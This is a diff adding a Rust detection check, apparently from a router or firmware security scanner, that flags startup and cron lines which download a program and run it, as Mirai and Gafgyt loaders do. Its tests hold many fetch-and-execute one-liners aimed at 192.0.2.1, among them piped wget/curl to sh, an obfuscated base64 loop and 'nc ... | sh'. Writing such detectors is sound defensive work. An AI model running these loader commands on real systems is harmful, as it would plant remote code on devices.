@@ -1,0 +1,115 @@
+//! A startup line that fetches a program from the network and runs it.
+//!
+//! # Sees
+//! wget, curl, tftp, ftpget, nc and the like whose output goes to a shell (a pipe, `sh -c "$(…)"`, `eval`,
+//! `. <(…)`), or whose file is run by the same or a later line of the same startup file, also after `mv` or `cp`.
+//!
+//! # Why it matters
+//! No healthy router's startup takes its program from elsewhere on each boot. This is how loaders of Mirai,
+//! Gafgyt, Kinsing and dhpcd stay on devices whose `/tmp` forgets.
+//!
+//! # Misses and false alarms
+//! Silent for what only saves or reads data: firmware updaters, ddns, acme, banip, adblock. Names are compared as
+//! text, so a name that is built differently in two lines is missed, and so is a program fetched by one file and
+//! run by another, or a fetcher that is called by a variable.
+//!
+//! # Sources
+//! POSIX.1-2017 Shell Command Language 2.9.2; wget(1), curl(1); BusyBox networking/{tftp,ftpgetput}.c; MITRE
+//! ATT&CK T1105.
+
+use crate::check::{Area, Check, Ctx, Hook, Out, Severity};
+use crate::facts::fetch::{Fetch, fetch};
+use crate::facts::shell::{Commands, Role};
+use crate::facts::startup::Line;
+
+/// The row of the table.
+pub const CHECK: Check = Check {
+    id: "startup-dropper",
+    area: Area::Startup,
+    severity: Severity::Infected,
+    attack: "T1105",
+    title: "a startup line that fetches a program and runs it",
+    intel: false,
+    hook: Hook::Line(run),
+};
+
+fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
+    let draft = if line.commands.iter().any(|(index, _)| takes_fetched_text(line.commands, index)) {
+        out.line(line).say("a shell runs what is fetched in: ")
+    } else if let Some(run) = line.memory.runs() {
+        out.line(line).say("runs what line ").number(run.fetched_at).say(" fetched: ")
+    } else {
+        return;
+    };
+    out.found(draft.quote(line.text));
+}
+
+/// Whether a command runs text that another one fetches.
+fn takes_fetched_text(commands: &Commands, command: u16) -> bool {
+    let fetches = |other: u16| fetch(commands, other) == Some(Fetch::Output);
+    if commands.is_shell(command) {
+        // A shell that has a script of its own reads data from its pipe.
+        let own_script = commands.program(command).skip(1).any(|word| word.first() != Some(&b'-'));
+        let piped = !own_script && commands.feeders(command).any(fetches);
+        piped || commands.inside(command).any(|inner| fetches(inner) && feeds_no_other(commands, inner))
+    } else {
+        // `$(wget …)` in the place of the program.
+        let empty = commands.words(command, Role::Argument).next().is_none_or(<[u8]>::is_empty);
+        empty && commands.inside(command).any(fetches)
+    }
+}
+
+/// Whether a command inside a substitution gives its output to the substitution, not to a filter.
+fn feeds_no_other(commands: &Commands, command: u16) -> bool {
+    !commands.iter().any(|(other, _)| {
+        other != command && !commands.is_shell(other) && commands.feeders(other).any(|from| from == command)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::check::testing::startup;
+    use super::*;
+    use crate::facts::startup::Kind;
+
+    #[test]
+    fn fetched_and_run() {
+        for text in [
+            &b"wget -q -O - http://192.0.2.1/x.sh | sh"[..],
+            b"(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | /bin/busybox ash",
+            b"sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
+            b"eval `wget -qO- http://192.0.2.1/x`",
+            b". <(curl -s http://192.0.2.1/x)",
+            b"$(wget -O- http://192.0.2.1/x)",
+            b"while :; do w\"g\"et -O- http://192.0.2.1/x | base64 -d | sh; sleep 60; done",
+            b"sh -c 'wget -O- http://192.0.2.1/x | sh'",
+            b"cd /tmp; wget http://192.0.2.1/b; chmod 777 b; ./b",
+            b"nc 192.0.2.1 4444 | sh",
+        ] {
+            assert_eq!(startup(&CHECK, Kind::Shell, text), [(1, Severity::Infected)], "{}", String::from_utf8_lossy(text));
+        }
+        let lines = b"F=/tmp/x\nwget -O $F http://192.0.2.1/x\nchmod +x $F\n$F &\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, lines), [(4, Severity::Infected)]);
+        assert_eq!(
+            startup(&CHECK, Kind::Cron, b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh"),
+            [(1, Severity::Infected)]
+        );
+    }
+
+    #[test]
+    fn fetched_as_data() {
+        for text in [
+            &b"wget -qO- http://192.0.2.1/ip | grep -o '[0-9.]*' > /tmp/ip"[..],
+            b"wget -O /tmp/fw.bin http://192.0.2.1/fw; sysupgrade /tmp/fw.bin",
+            b"echo 'install: curl http://192.0.2.1/x | sh'",
+            b"# wget -O- http://192.0.2.1/x | sh",
+            b"curl -s http://192.0.2.1/list | sort | sh /usr/lib/adblock/merge.sh",
+            b"IP=$(wget -qO- http://192.0.2.1/ip)",
+            b"echo $(curl http://192.0.2.1/ip)",
+            b"eval $(wget -qO- http://192.0.2.1/x | jsonfilter -e 'A=@.a')",
+            b"wget http://192.0.2.1/x; sh /usr/bin/y",
+        ] {
+            assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
+        }
+    }
+}
